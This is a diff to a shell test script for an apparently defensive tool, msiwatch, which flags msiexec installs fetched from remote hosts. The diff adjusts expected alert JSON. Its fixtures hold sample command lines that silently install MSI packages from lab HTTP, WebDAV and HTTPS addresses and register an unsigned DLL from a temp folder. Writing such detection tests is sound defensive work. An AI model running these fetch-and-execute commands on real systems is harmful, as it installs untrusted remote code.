@@ -74,7 +74,7 @@ expect_eq "http: process, host address, rarity, rule and technique" \
 alerts -r "$L/http-msi.pcap" -e "$TMP/http.jsonl" -G "$TESTS_DIR/data/mmdb/test-city.mmdb" \
     -G "$TESTS_DIR/data/mmdb/test-asn.mmdb" >"$TMP/a1g"
 expect_eq "-G city and ASN databases: destination.geo and destination.as" "$(jq -c .destination "$TMP/a1g")" \
-    '{"ip":"10.77.0.20","geo":{"country_iso_code":"NL","country_name":"Netherlands","city_name":"Amsterdam"},"as":{"number":64500,"organization":{"name":"Lab Transit B.V."}}}'
+    '{"ip":"10.77.0.20","port":80,"geo":{"country_iso_code":"NL","country_name":"Netherlands","city_name":"Amsterdam"},"as":{"number":64500,"organization":{"name":"Lab Transit B.V."}}}'
 
 # 2. the same replay twice gives the same bytes
 alerts -r "$L/http-msi.pcap" -e "$TMP/http.jsonl" >"$TMP/a1b"
@@ -114,8 +114,8 @@ T=$(t0 "$L/http-msi.pcap")
   sysmon1 "$T" 89.6 13 "$MSIEXEC" 'msiexec.exe /q /i http://10.77.0.20/pkg/setup.msi'; } >"$TMP/skew.jsonl"
 alerts -r "$L/http-msi.pcap" -e "$TMP/skew.jsonl" >"$TMP/a5"
 expect_eq "skewed +90 s and out of order: joined, critical, with the module evidence" \
-    "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), (.msiwatch.evidence.network | length), .msiwatch.evidence.modules[0].msiwatch.reason]' "$TMP/a5")" \
-    '[4,"remote-url-argument,first-seen-ip,windows-installer-user-agent,payload-msi,unsigned-module-load",1,"unsigned-module-load"]'
+    "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), (.msiwatch.evidence.network | length), (.msiwatch.evidence.modules[0].msiwatch.reasons | join(","))]' "$TMP/a5")" \
+    '[4,"remote-url-argument,first-seen-ip,windows-installer-user-agent,payload-msi,unsigned-module-load,module-from-temp",1,"unsigned-module-load,module-from-temp"]'
 
 # 5b. a steady offset: three runs on the host, each with the clock 90 s ahead:
 #     estimated from the joins and reported
@@ -154,7 +154,7 @@ sysmon1 "$T" -0.2 15 "$MSIEXEC" 'msiexec /i \\10.77.0.20\DavWWWRoot\pkg\setup.ms
 alerts -r "$L/webdav-msi.pcap" -e "$TMP/dav.jsonl" >"$TMP/a8"
 expect_eq "webdav: critical, the redirector's GET of the verified MSI joined" \
     "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), ([.msiwatch.evidence.network[] | select(.file.type == "msi") | .url.original])]' "$TMP/a8")" \
-    '[4,"webdav-argument,host-inferred-from-fetch,first-seen-ip,payload-msi",["\\\\10.77.0.20\\DavWWWRoot\\pkg\\setup.msi"]]'
+    '[4,"webdav-argument,first-seen-ip,host-inferred-from-fetch,payload-msi",["\\\\10.77.0.20\\DavWWWRoot\\pkg\\setup.msi"]]'
 
 # 9. HTTPS: msiexec /i https://lab.msiwatch.test/...; SNI, first-seen domain
 T=$(t0 "$L/https-msi.pcap")
@@ -162,7 +162,7 @@ sysmon1 "$T" -0.2 16 "$MSIEXEC" 'msiexec /i https://lab.msiwatch.test/pkg/setup.
 alerts -r "$L/https-msi.pcap" -e "$TMP/tls.jsonl" >"$TMP/a9"
 expect_eq "https: high, joined by SNI, first-seen domain" \
     "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), .destination.domain, .msiwatch.evidence.network[0].tls.client.server_name, .msiwatch.rarity.first_seen.domain]' "$TMP/a9")" \
-    '[3,"remote-url-argument,host-inferred-from-fetch,first-seen-domain","lab.msiwatch.test","lab.msiwatch.test",true]'
+    '[3,"remote-url-argument,first-seen-domain,first-seen-ip,host-inferred-from-fetch","lab.msiwatch.test","lab.msiwatch.test",true]'
 
 # 10. /y DLL: no network, an unsigned load from %TEMP% by msiexec
 T=$(t0 "$L/http-msi.pcap")
@@ -172,7 +172,7 @@ T=$(t0 "$L/http-msi.pcap")
 alerts -e "$TMP/y.jsonl" >"$TMP/a10"
 expect_eq "/y DLL: high, the unsigned load as evidence, the signed one not" \
     "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), [.msiwatch.evidence.modules[] | .dll.path], .msiwatch.msiexec.action]' "$TMP/a10")" \
-    '[3,"dll-register-argument,unsigned-module-load",["C:\\Users\\labuser\\AppData\\Local\\Temp\\payload.dll"],"register"]'
+    '[3,"dll-register-argument,unsigned-module-load,module-from-temp",["C:\\Users\\labuser\\AppData\\Local\\Temp\\payload.dll"],"register"]'
 
 # 11. MsiInstaller 1040 and 1042 without a command line (an install through WMI)
 T=$(t0 "$L/http-msi.pcap")
@@ -186,7 +186,7 @@ done >"$TMP/wmi.jsonl"
 alerts -r "$L/http-msi.pcap" -e "$TMP/wmi.jsonl" >"$TMP/a11"
 expect_eq "MsiInstaller 1040+1042: one installer chain, the fetch joined, critical" \
     "$(jq -c '[.event.severity, .msiwatch.alert.kind, (.msiwatch.reasons | join(",")), .msiwatch.package]' "$TMP/a11")" \
-    '[4,"installer","msiinstaller-remote-package,remote-url-argument,host-inferred-from-fetch,first-seen-ip,windows-installer-user-agent,payload-msi","http://10.77.0.20/pkg/setup.msi"]'
+    '[4,"installer","msiinstaller-remote-package,remote-url-argument,first-seen-ip,host-inferred-from-fetch,windows-installer-user-agent,payload-msi","http://10.77.0.20/pkg/setup.msi"]'
 
 # 12. a local install, and an uninstall by product code: no alert
 T=$(t0 "$L/http-msi.pcap")
